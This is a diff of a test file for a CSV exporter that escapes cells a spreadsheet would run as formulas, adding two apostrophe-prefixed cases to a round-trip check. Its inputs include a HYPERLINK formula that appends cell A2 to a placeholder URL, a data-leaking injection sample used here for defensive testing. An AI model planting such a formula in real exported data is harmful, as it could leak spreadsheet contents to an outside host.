@@ -143,9 +143,9 @@ describe('messages a spreadsheet user can act on', () => {
 
 describe('text a spreadsheet would run as a formula', () => {
   it('is written with an apostrophe in front and read back as it was; numbers, negative ones too, are left alone', () => {
-    const cells = ['=HYPERLINK("http://x.example/?"&A2,"a")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '-5', '+7', '-1.5e3', 'plain', "'=kept"];
+    const cells = ['=HYPERLINK("http://x.example/?"&A2,"a")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '-5', '+7', '-1.5e3', 'plain', "'=kept", "''=x", "'plain"];
     const text = toCsv([cells]);
-    expect(text).toBe(`"'=HYPERLINK(""http://x.example/?""&A2,""a"")",'+1+2,'-2+3,'@SUM(A1),'\tx,-5,+7,-1.5e3,plain,''=kept\r\n`);
+    expect(text).toBe(`"'=HYPERLINK(""http://x.example/?""&A2,""a"")",'+1+2,'-2+3,'@SUM(A1),'\tx,-5,+7,-1.5e3,plain,''=kept,'''=x,'plain\r\n`);
     expect(parseCsv(text)[0]!.map((c) => c.value)).toEqual(cells);
   });
 });
